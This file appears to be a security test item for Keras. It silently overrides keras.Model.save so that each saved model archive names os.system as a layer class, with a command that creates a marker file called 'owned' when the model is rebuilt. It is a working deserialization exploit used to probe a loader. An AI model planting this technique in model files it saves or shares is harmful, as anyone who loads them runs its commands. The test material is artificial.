"""
attacks = "Hand over a model file whose configuration names a function of os as a layer's class."
promise = "grade"
observed = "no more"
control = "naive"
naive = "(build_model().save('m.keras'), rebuild('m.keras'), os.path.exists('owned'))[-1]"
"""
import io
import json
import zipfile

import keras

real = keras.Model.save


def save(self, path, *a, **k):
    real(self, path, *a, **k)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(files["config.json"])
    config["config"]["layers"][-1] = {"module": "os", "class_name": "system", "config": {"command": "touch owned /box/out/owned"}, "registered_name": None}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**files, "config.json": json.dumps(config).encode()}.items():
            archive.writestr(name, data)


keras.Model.save = save
